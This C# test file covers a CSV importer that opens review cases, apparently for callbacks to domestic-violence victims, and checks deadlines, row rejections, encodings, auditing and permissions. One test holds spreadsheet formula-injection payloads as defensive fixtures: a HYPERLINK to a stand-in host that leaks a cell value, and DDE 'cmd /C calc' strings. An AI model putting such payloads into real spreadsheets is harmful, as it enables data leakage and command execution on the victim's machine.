using System.Text;
using Callback.Domain.Audit;
using Callback.Domain.Cases;
using Callback.Domain.Intake;
using Callback.Domain.Workflow;
using Microsoft.EntityFrameworkCore;

using static Callback.Testing.ImportFixture;

namespace Callback.Domain.Tests.Intake;

public class ImportTests
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private static async Task<List<Case>> CasesAsync(Harness h)
    {
        await using var db = await h.Databases.CreateDbContextAsync(Ct);
        return await db.Cases.AsNoTracking().OrderBy(c => c.FileReference).ToListAsync(Ct);
    }

    private static async Task<(int Cases, int Campaigns, int AuditEntries)> CountsAsync(Harness h)
    {
        await using var db = await h.Databases.CreateDbContextAsync(Ct);
        return (await db.Cases.CountAsync(Ct), await db.Campaigns.CountAsync(Ct), await db.AuditEntries.CountAsync(Ct));
    }

    /// <summary>A file refused whole leaves no trace: no case, no campaign, no audit entry.</summary>
    private static async Task AssertRefusedWholeAsync(Harness h, ImportReport report, string why)
    {
        Assert.True(report.IsRefused);
        Assert.Contains(why, report.Refusal, StringComparison.Ordinal);
        Assert.Equal((0, 0, 0), await CountsAsync(h));
    }

    [Fact]
    public async Task Import_OpensOneCasePerRow_InACampaignWhoseDeadlinesRunFromTheImport_NotFromTheInterventions()
    {
        await using var h = await Harness.CreateAsync();
        var importedAt = h.Now;

        var report = await h.ImportAsync(File(Row("62-2020-000001", at: "04/01/2020 22:40"), Row("62-2020-000002", at: "14/07/2020 03:10"), Row("62-2020-000003", unit: "CTC-59")));

        Assert.Equal(3, report.Created.Count);
        await using var db = await h.Databases.CreateDbContextAsync(Ct);
        var campaign = await db.Campaigns.SingleAsync(Ct);
        Assert.Equal((report.CampaignId, "Réexamen 2020", "admin-1"), (campaign.Id, campaign.Name, campaign.CreatedBy));
        Assert.Equal((importedAt, importedAt.AddDays(7), importedAt.AddDays(14)), (campaign.ImportedAtUtc, campaign.ReviewDueUtc, campaign.ContactDueUtc));
        Assert.Equal((importedAt.AddDays(7), importedAt.AddDays(14)), (report.ReviewDueUtc!.Value, report.ContactDueUtc!.Value));
        foreach (var c in await CasesAsync(h))
        {
            Assert.Equal(CaseState.AwaitingReview, c.State);
            Assert.Equal(2020, c.InterventionAtUtc.Year);
            Assert.Equal(importedAt, c.CreatedAtUtc);
            Assert.Equal(campaign.Id, c.CampaignId);
            Assert.Equal(importedAt.AddDays(14), c.CampaignContactDueUtc);
            Assert.Equal(importedAt.AddDays(7), c.DueAtUtc);
            Assert.Equal(new CaseAlarm(c.Id, 1, DeadlineKind.ReviewOverdue, importedAt.AddDays(7)), c.Alarm);
            Assert.Contains(c.Alarm, h.Alarms.Armed);
            Assert.Equal(ConfidentialityTier.Orange, c.Tier);
        }

        Assert.Equal(new DateTime(2020, 7, 14, 1, 10, 0, DateTimeKind.Utc), (await CasesAsync(h))[1].InterventionAtUtc);
    }

    [Fact]
    public async Task Import_ThenSweeps_RequestNoPatrol_NotEvenOnceTheReviewsAreOverdue()
    {
        await using var h = await Harness.CreateAsync();
        var rows = Enumerable.Range(1, 30).Select(i => Row($"62-2020-{i:D6}", at: $"{i % 28 + 1:D2}/02/2020 21:00")).ToArray();
        var importedAt = h.Now;
        await h.ImportAsync(File(rows));

        await h.Sweeper.SweepOnceAsync(Ct);
        Assert.All(await CasesAsync(h), c => Assert.Equal(CaseState.AwaitingReview, c.State));

        h.Clock.Advance(TimeSpan.FromDays(8));
        var overdue = await h.Sweeper.SweepOnceAsync(Ct);
        Assert.Equal(30, overdue.Fired);
        Assert.All(await CasesAsync(h), c => Assert.Equal(CaseState.AwaitingReview, c.State));
        Assert.Equal(30, (await h.AuditAsync()).Count(e => e.Action == "Alert.ReviewOverdue"));

        // Reviewed now, a file from February 2020 is due at the campaign's contact deadline, not 48 hours after 2020.
        var first = (await CasesAsync(h))[0];
        await h.Workflow.ReviewAsync(first.Id, first.Version, Harness.Findings(), h.OfficerA, Ct);
        await h.Sweeper.SweepOnceAsync(Ct);
        var reviewed = await h.LoadAsync(first.Id);
        Assert.Equal(CaseState.AwaitingContact, reviewed.State);
        Assert.Equal(importedAt.AddDays(14), reviewed.DueAtUtc);
        Assert.DoesNotContain(await CasesAsync(h), c => c.State == CaseState.PatrolRequested);
    }

    [Fact]
    public async Task Import_WhenARowHasAnUnknownUnit_RejectsItWithLineAndFieldAndKeepsTheOthers()
    {
        await using var h = await Harness.CreateAsync();

        var report = await h.ImportAsync(File(Row("62-1"), Row("62-2", unit: "CTC-99"), Row("62-3")));

        var rejection = Assert.Single(report.Rejections);
        Assert.Equal((3, "unite"), (rejection.Line, rejection.Field));
        Assert.Contains("unknown unit \"CTC-99\"", rejection.Reason, StringComparison.Ordinal);
        Assert.Equal(["62-1", "62-3"], (await CasesAsync(h)).Select(c => c.FileReference));
        Assert.Equal([2, 4], report.Created.Select(r => r.Line));
    }

    [Fact]
    public async Task Import_WhenEveryKindOfFieldIsWrongOnSomeRow_ImportsAllTheGoodRowsAnyway()
    {
        await using var h = await Harness.CreateAsync();
        string[] rows =
        [
            Row("62-01"),
            Row("", firstName: "Anne"),
            Row("62-03", at: "31/02/2020 10:00"),
            Row("62-04", offence: "VOL"),
            Row("62-05", lastName: ""),
            Row("62-06", phone: "06 12"),
            Row("62-07", cohabitation: "parfois"),
            Row("62-08", penal: "peut-être"),
            Row("62-09", children: "3"),
            Row("62-10", notes: new string('n', 4001)),
            Row("62-11"),
        ];

        var report = await h.ImportAsync(File(rows));

        Assert.Equal(["62-01", "62-11"], (await CasesAsync(h)).Select(c => c.FileReference));
        Assert.Equal([3, 4, 5, 6, 7, 8, 9, 10, 11], report.Rejections.Select(r => r.Line));
        Assert.Equal(["reference", "date_intervention", "infraction", "victime_nom", "victime_telephone", "cohabitation", "reponse_penale", "enfants", "notes"],
            report.Rejections.Select(r => r.Field));
        Assert.Equal(9, report.RejectedRows);
    }

    [Fact]
    public async Task Import_ListsRejectionsInFileOrder_AndTheProblemsOfOneRowInColumnOrder()
    {
        await using var h = await Harness.CreateAsync();
        var badQuoting = Row("62-1").Replace(";oui;non;inconnu;", ";oui;non;inconnu;\"dit \"stop\" puis\"", StringComparison.Ordinal);

        var report = await h.ImportAsync(File(badQuoting, Row("62-2", offence: "VOL", phone: "12", children: "x"), Row("62-3")));

        Assert.Equal([(2, (string?)null), (3, "infraction"), (3, "victime_telephone"), (3, "enfants")], report.Rejections.Select(r => (r.Line, r.Field)));
        Assert.Contains("closing quote", report.Rejections[0].Reason, StringComparison.Ordinal);
        Assert.Equal((3, 2), (report.RowsRead, report.RejectedRows));
        Assert.Equal(["62-3"], report.Created.Select(r => r.Reference));
    }

    [Fact]
    public async Task Import_WhenAReferenceRepeatsInTheFile_RejectsTheLaterRowNamingTheFirstLine()
    {
        await using var h = await Harness.CreateAsync();

        var report = await h.ImportAsync(File(Row("62-1", firstName: "Anne"), Row("62-2"), Row("62-1", firstName: "Zoé"), Row("62-1", unit: "CTC-59")));

        var rejection = Assert.Single(report.Rejections);
        Assert.Equal((4, "reference"), (rejection.Line, rejection.Field));
        Assert.Contains("as line 2", rejection.Reason, StringComparison.Ordinal);
        var cases = await CasesAsync(h);
        Assert.Equal(3, cases.Count);
        Assert.Equal("Anne", cases.Single(c => c.FileReference == "62-1" && c.UnitId == h.UnitA).Victim.FirstName);
    }

    [Fact]
    public async Task Import_TheSameFileTwice_CreatesNoDuplicate_AndReportsEveryRowUnchanged()
    {
        await using var h = await Harness.CreateAsync();
        var file = File(Row("62-1"), Row("62-2", notes: "voisins"), Row("62-3", phone: ""));
        await h.ImportAsync(file);
        var before = await CountsAsync(h);

        var again = await h.ImportAsync(file, campaign: "Réexamen 2020, second passage");

        Assert.Empty(again.Created);
        Assert.Empty(again.Updated);
        Assert.Equal([2, 3, 4], again.Unchanged.Select(r => r.Line));
        Assert.Null(again.CampaignId);
        // The second import's start and end entries, nothing else.
        Assert.Equal((before.Cases, before.Campaigns, before.AuditEntries + 2), await CountsAsync(h));
    }

    [Fact]
    public async Task Import_AChangedFileAfterReview_UpdatesTheFileFacts_WithoutRewindingTheCase()
    {
        await using var h = await Harness.CreateAsync();
        await h.ImportAsync(File(Row("62-1", notes: "voisins"), Row("62-2")));
        var first = (await CasesAsync(h))[0];
        await h.Workflow.ReviewAsync(first.Id, first.Version, Harness.Findings(), h.OfficerA, Ct);
        var reviewed = await h.LoadAsync(first.Id);
        Assert.Equal(CaseState.AwaitingContact, reviewed.State);
        h.Clock.Advance(TimeSpan.FromHours(3));

        var report = await h.ImportAsync(File(Row("62-1", phone: "+33 7 81 23 45 67", notes: "voisins ; plainte retirée"), Row("62-2"), Row("62-3")), campaign: "Mise à jour");

        var update = Assert.Single(report.Updated);
        Assert.Equal((2, first.Id), (update.Line, update.CaseId));
        Assert.Equal(["victim phone", "notes"], update.ChangedFacts);
        Assert.Equal(["62-2"], report.Unchanged.Select(r => r.Reference));
        Assert.Equal(["62-3"], report.Created.Select(r => r.Reference));
        var after = await h.LoadAsync(first.Id);
        Assert.Equal(CaseState.AwaitingContact, after.State);
        Assert.Equal((reviewed.DueAtUtc, reviewed.ContactWindowOpensAtUtc, reviewed.Alarm, reviewed.Perpetrator.Cohabiting),
            (after.DueAtUtc, after.ContactWindowOpensAtUtc, after.Alarm, after.Perpetrator.Cohabiting));
        Assert.Equal(reviewed.Version + 1, after.Version);
        Assert.Equal("+33781234567", after.Victim.Phone);
        Assert.Equal("voisins ; plainte retirée", after.FileNotes);
        var entry = (await h.AuditAsync(first.Id))[^1];
        Assert.Equal(("UpdateFacts", "admin-1", "AwaitingContact", "AwaitingContact", "victim phone, notes"), (entry.Action, entry.Actor, entry.FromState, entry.ToState, entry.Reason));
        Assert.Contains(h.Notifier.Changes, c => c.CaseId == first.Id && c.Action == "UpdateFacts");
        Assert.Equal(3, (await CasesAsync(h)).Count);
    }

    [Fact]
    public async Task Import_ARowWhoseCaseHasAnotherInterventionDate_IsRejected_AndTheCaseKeepsItsOwn()
    {
        await using var h = await Harness.CreateAsync();
        await h.ImportAsync(File(Row("62-1", at: "04/01/2020 22:40")));

        var report = await h.ImportAsync(File(Row("62-1", at: "05/01/2020 22:40", notes: "corrigé"), Row("62-2", offence: "VIOL")));

        var rejection = Assert.Single(report.Rejections);
        Assert.Equal((2, "date_intervention"), (rejection.Line, rejection.Field));
        var kept = (await CasesAsync(h))[0];
        Assert.Equal(new DateTime(2020, 1, 4, 21, 40, 0, DateTimeKind.Utc), kept.InterventionAtUtc);
        Assert.Null(kept.FileNotes);
    }

    public static TheoryData<string, char> EncodingsAndSeparators => new()
    {
        { "UTF-8 with BOM", ';' },
        { "UTF-8 with BOM", ',' },
        { "UTF-8", ';' },
        { "UTF-8", ',' },
        { "Windows-1252", ';' },
        { "Windows-1252", ',' },
    };

    [Theory]
    [MemberData(nameof(EncodingsAndSeparators))]
    public async Task Import_ReadsEachEncodingAndSeparator_WithAccentsIntact(string encodingName, char separator)
    {
        await using var h = await Harness.CreateAsync();
        var encoding = encodingName switch
        {
            "UTF-8 with BOM" => Encoding.UTF8,
            "UTF-8" => Utf8WithoutBom,
            _ => Windows1252,
        };
        var text = string.Join('\n', Header.Replace(';', separator),
            Row("62-1", lastName: "Lefèvre-Garçon", firstName: "Françoise", address: "à côté de la gare, Béthune", notes: "reçue à l'accueil; déjà connue, suivie", separator: separator)) + "\n";

        var report = await h.ImportAsync(text, encoding);

        Assert.Equal((encodingName, separator), (report.Encoding, report.Separator!.Value));
        var c = Assert.Single(await CasesAsync(h));
        Assert.Equal(("Lefèvre-Garçon", "Françoise", "à côté de la gare, Béthune"), (c.Victim.LastName, c.Victim.FirstName, c.Victim.Address));
        Assert.Equal("reçue à l'accueil; déjà connue, suivie", c.FileNotes);
    }

    [Fact]
    public async Task Import_AfterAMultiLineNote_RejectsABadRowAtItsPhysicalLine()
    {
        await using var h = await Harness.CreateAsync();
        var text = File(Row("62-1", notes: "Fils majeur au domicile.\nPlainte déposée.\nSuivi proposé."), Row("62-2", phone: "06 12"), Row("62-3"));

        var report = await h.ImportAsync(text);

        var rejection = Assert.Single(report.Rejections);
        Assert.Equal((5, "victime_telephone"), (rejection.Line, rejection.Field));
        Assert.Equal([2, 6], report.Created.Select(r => r.Line));
        Assert.Equal("Fils majeur au domicile.\nPlainte déposée.\nSuivi proposé.", (await CasesAsync(h))[0].FileNotes);
    }

    [Fact]
    public async Task Import_FormulasInNotes_AreStoredVerbatimAsText()
    {
        await using var h = await Harness.CreateAsync();
        string[] formulas = ["=HYPERLINK(\"http://evil.test/?\"&A1;\"cliquez\")", "+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"];

        await h.ImportAsync(File(formulas.Select((f, i) => Row($"62-{i}", notes: f)).ToArray()));

        Assert.Equal(formulas, (await CasesAsync(h)).Select(c => c.FileNotes));
    }

    [Fact]
    public async Task Import_AFileOverTheSizeLimit_IsRefusedWhole()
    {
        await using var h = await Harness.CreateAsync(import: o => o.MaxFileBytes = 2_000);
        var file = File(Enumerable.Range(1, 20).Select(i => Row($"62-{i}")).ToArray());
        Assert.True(Encoding.UTF8.GetByteCount(file) > 2_000);

        var report = await h.ImportAsync(file);

        await AssertRefusedWholeAsync(h, report, "Import:MaxFileBytes");
    }

    [Fact]
    public async Task Import_MoreRowsThanTheLimit_IsRefusedWhole()
    {
        await using var h = await Harness.CreateAsync(import: o => o.MaxRows = 5);

        var atLimit = await h.DryRunAsync(File(Enumerable.Range(1, 5).Select(i => Row($"62-{i}")).ToArray()));
        var report = await h.ImportAsync(File(Enumerable.Range(1, 6).Select(i => Row($"62-{i}")).ToArray()));

        Assert.False(atLimit.IsRefused);
        await AssertRefusedWholeAsync(h, report, "more than 5 rows");
    }

    [Fact]
    public async Task Import_AnEmptyFile_IsRefusedWhole()
    {
        await using var h = await Harness.CreateAsync();

        var report = await h.ImportAsync("");

        await AssertRefusedWholeAsync(h, report, "empty");
    }

    [Fact]
    public async Task Import_AHeaderOnlyFile_IsReadAndOpensNothing_ButTheImportIsAudited()
    {
        await using var h = await Harness.CreateAsync();

        var report = await h.ImportAsync(Header + "\r\n");

        Assert.False(report.IsRefused);
        Assert.Equal((0, 0, 0, 0), (report.RowsRead, report.Created.Count, report.Rejections.Count, report.Warnings.Count));
        Assert.Null(report.CampaignId);
        // Its start and its end.
        Assert.Equal((0, 0, 2), await CountsAsync(h));
    }

    [Fact]
    public async Task Import_UnknownColumns_AreWarnedAbout_AndIgnored()
    {
        await using var h = await Harness.CreateAsync();
        var text = $"{Header};commentaire_interne\n{Row("62-1")};à ne pas reprendre\n";

        var report = await h.ImportAsync(text);

        Assert.Equal(["unknown column \"commentaire_interne\" ignored"], report.Warnings);
        Assert.Single(report.Created);
    }

    [Fact]
    public async Task Import_AMissingRequiredColumn_RefusesTheFileWhole_NamingTheColumn()
    {
        await using var h = await Harness.CreateAsync();
        var text = Header.Replace("victime_prenom;", "", StringComparison.Ordinal) + "\n62-1;CTC-62;04/01/2020 22:40;VIOL;Martin;;;;;;;\n";

        var report = await h.ImportAsync(text);

        await AssertRefusedWholeAsync(h, report, "victime_prenom (or victim_first_name)");
    }

    [Fact]
    public async Task Import_WithADefaultUnit_PutsRowsWithoutAUnitThere()
    {
        await using var h = await Harness.CreateAsync();

        var report = await h.ImportAsync(File(Row("59-1", unit: ""), Row("62-1", unit: "CTC-62")), defaultUnit: "CTC-59");

        Assert.Equal([h.UnitB, h.UnitA], (await CasesAsync(h)).Select(c => c.UnitId));
        Assert.Equal(["CTC-59", "CTC-62"], report.Created.Select(r => r.UnitCode));
    }

    [Fact]
    public async Task Import_WithAnUnknownDefaultUnit_IsRefusedWhole()
    {
        await using var h = await Harness.CreateAsync();

        var report = await h.ImportAsync(File(Row("62-1")), defaultUnit: "CTC-00");

        await AssertRefusedWholeAsync(h, report, "default unit \"CTC-00\"");
    }

    [Fact]
    public async Task Import_KeepsTheAuditChainIntact_WithOneOpenPerCaseAndOneImportEntry()
    {
        await using var h = await Harness.CreateAsync();
        await h.CaseAwaitingContactAsync("62-2026-000001");

        var report = await h.ImportAsync(File(Row("62-1"), Row("62-2", offence: "VOL"), Row("62-3"), Row("62-4")));
        await h.ImportAsync(File(Row("62-1", notes: "complément")), campaign: "Complément");

        await using var db = await h.Databases.CreateDbContextAsync(Ct);
        var verification = await AuditWriter.VerifyAsync(db, Ct);
        Assert.True(verification.IsIntact, verification.Message);
        var entries = await h.AuditAsync();
        var opens = entries.Where(e => e.Action == "Open" && e.Actor == "admin-1").ToList();
        Assert.Equal(report.Created.Select(r => r.CaseId), opens.Select(e => e.CaseId));
        Assert.All(opens, e => Assert.Equal((null, "AwaitingReview", $"campaign {report.CampaignId}"), (e.FromState, e.ToState, e.Reason)));
        var imports = entries.Where(e => e.Action == "Import").ToList();
        Assert.Equal(2, imports.Count);
        Assert.All(imports, e => Assert.Null(e.CaseId));
        Assert.Equal($"campaign {report.CampaignId} \"Réexamen 2020\": 3 created, 0 updated, 0 unchanged, 1 rejected of 4 rows", imports[0].Reason);
        Assert.Single(entries, e => e.Action == "UpdateFacts");
    }

    [Fact]
    public async Task DryRun_WritesNothing_AndSaysWhatAnImportWouldDoAndWhenTheNewCasesFallDue()
    {
        await using var h = await Harness.CreateAsync();
        await h.ImportAsync(File(Row("62-1"), Row("62-2")));
        var before = await CountsAsync(h);
        var cases = await CasesAsync(h);
        var armed = h.Alarms.Armed.Count;

        var report = await h.DryRunAsync(File(Row("62-1", phone: "07 81 23 45 67"), Row("62-2"), Row("62-3"), Row("62-4", unit: "CTC-99")));

        Assert.True(report.DryRun);
        Assert.Equal(["62-3"], report.Created.Select(r => r.Reference));
        Assert.Equal(["victim phone"], Assert.Single(report.Updated).ChangedFacts);
        Assert.Equal(["62-2"], report.Unchanged.Select(r => r.Reference));
        Assert.Equal(5, Assert.Single(report.Rejections).Line);
        Assert.Equal((h.Now.AddDays(7), h.Now.AddDays(14)), (report.ReviewDueUtc!.Value, report.ContactDueUtc!.Value));
        Assert.Null(report.CampaignId);
        Assert.Equal(before, await CountsAsync(h));
        Assert.Equal(cases.Select(c => (c.Victim.Phone, c.Version)), (await CasesAsync(h)).Select(c => (c.Victim.Phone, c.Version)));
        Assert.Equal(armed, h.Alarms.Armed.Count);
    }

    [Fact]
    public async Task Import_ByAnOfficer_IsForbidden()
    {
        await using var h = await Harness.CreateAsync();
        await using var stream = System.IO.File.OpenRead(await WriteAsync(h, File(Row("62-1"))));

        await Assert.ThrowsAsync<ActionForbiddenException>(() => h.Importer.ImportAsync(stream, new ImportRequest("Réexamen", h.OfficerA), null, Ct));
        Assert.Equal((0, 0, 0), await CountsAsync(h));
    }

    [Fact]
    public async Task Import_ByASupervisor_ImportsTheirDepartementsRows_AndRejectsTheOthersAsOutsideTheirScope()
    {
        await using var h = await Harness.CreateAsync();
        await using var stream = System.IO.File.OpenRead(await WriteAsync(h, File(Row("62-1"), Row("59-1", unit: "CTC-59"))));

        var report = await h.Importer.ImportAsync(stream, new ImportRequest("Réexamen 62", h.Supervisor), null, Ct);

        Assert.Equal(["62-1"], report.Created.Select(r => r.Reference));
        var rejection = Assert.Single(report.Rejections);
        Assert.Equal((3, "unite", "unit \"CTC-59\" is outside your scope"), (rejection.Line, rejection.Field, rejection.Reason));
        Assert.Single(await CasesAsync(h));
    }

    [Fact]
    public async Task Import_ReportsProgress_FromReadingToEveryRowWritten()
    {
        await using var h = await Harness.CreateAsync();
        await h.ImportAsync(File(Row("62-1")));
        var progress = new RecordingProgress();

        await h.ImportAsync(File(Enumerable.Range(1, 12).Select(i => Row($"62-{i}", notes: i == 1 ? "mis à jour" : "")).ToArray()), progress: progress);

        Assert.Equal(ImportStage.Reading, progress.Reports[0].Stage);
        Assert.Contains(progress.Reports, p => p is { Stage: ImportStage.Reading, RowsRead: 12, RowsValidated: 12, RowsToWrite: 12 });
        Assert.Contains(progress.Reports, p => p is { Stage: ImportStage.Writing, RowsWritten: 11 });
        Assert.Equal(new ImportProgress(ImportStage.Done, 12, 12, 12, 12), progress.Reports[^1]);
        Assert.Equal(progress.Reports.Select(p => p.RowsWritten).Order(), progress.Reports.Select(p => p.RowsWritten));
    }
}
